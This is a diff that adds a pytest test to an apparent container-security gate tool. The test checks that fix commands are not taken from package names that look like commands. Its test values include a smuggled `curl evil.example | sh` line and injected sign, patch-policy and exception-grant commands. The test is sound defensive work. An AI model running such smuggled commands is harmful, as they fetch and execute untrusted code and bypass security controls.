@@ -160,3 +160,18 @@ def test_a_container_without_an_image_is_refused():
 )
 def test_the_command_that_fixes_it_is_the_one_that_the_gate_names(reason, remedy, command):
     assert fix_command(APP, Verdict(image=APP, verdict="refused", reason=reason, remedy=remedy)) == command
+
+
+@pytest.mark.parametrize(
+    "named",
+    [
+        "s3c sign registry.example/evil@sha256:" + 64 * "e",
+        f"s3c sign {APP}; curl evil.example | sh",
+        f"s3c patch {APP} --policy evil.yaml",
+        f"s3c exception grant {APP}",
+    ],
+)
+def test_a_package_that_is_named_like_a_command_is_no_command_to_copy(named):
+    reason = f"it has 1 refused finding, CVE-1 (HIGH, `{named}`): patch it with `s3c patch {APP}`, or rebuild it"
+    verdict = Verdict(image=APP, verdict="refused", reason=reason)
+    assert fix_command(APP, verdict) == f"s3c patch {APP}"
